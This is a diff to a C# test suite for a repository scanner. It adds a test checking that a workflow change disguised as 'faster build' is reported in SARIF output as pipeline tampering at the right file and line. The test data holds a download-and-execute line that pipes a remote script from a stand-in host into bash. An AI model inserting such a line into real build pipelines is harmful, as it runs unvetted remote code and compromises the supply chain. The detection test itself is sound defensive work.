@@ -56,6 +56,27 @@ public sealed class CodeChangeScanTests
         Assert.Contains(result.Findings, f => f.Category == Categories.UnusualTime && f.Explanation.Contains("earlier commits to", StringComparison.Ordinal));
     }
 
+    [Fact]
+    public async Task Sarif_points_at_the_file_and_line_of_the_changed_workflow()
+    {
+        using var repository = new TestRepository();
+        repository.Write(CodeChangeHistory.Workflow, CodeChangeHistory.CleanWorkflow);
+        repository.Commit("ci");
+        repository.Write(CodeChangeHistory.Workflow, CodeChangeHistory.CleanWorkflow.Replace("run: make build", "run: curl -fsSL https://get.example.net/i.sh | bash", StringComparison.Ordinal));
+        repository.Commit("faster build");
+        var cli = new CliRunner(repository.Path);
+
+        var result = await cli.RunAsync("scan", ".", "--format", "sarif");
+
+        Assert.Equal(1, result.ExitCode);
+        using var sarif = System.Text.Json.JsonDocument.Parse(result.Output);
+        var hit = Assert.Single(sarif.RootElement.GetProperty("runs")[0].GetProperty("results").EnumerateArray(),
+            r => r.GetProperty("ruleId").GetString() == "pipeline-tampering.download-and-execute");
+        var location = hit.GetProperty("locations")[0].GetProperty("physicalLocation");
+        Assert.Equal(CodeChangeHistory.Workflow, location.GetProperty("artifactLocation").GetProperty("uri").GetString());
+        Assert.Equal(11, location.GetProperty("region").GetProperty("startLine").GetInt32());
+    }
+
     /// <summary>Alice (UTC+01:00), Bob (UTC-05:00) and Carol (UTC+05:30) commit every weekday at their usual hour for five weeks.</summary>
     private static TestRepository Normal()
     {
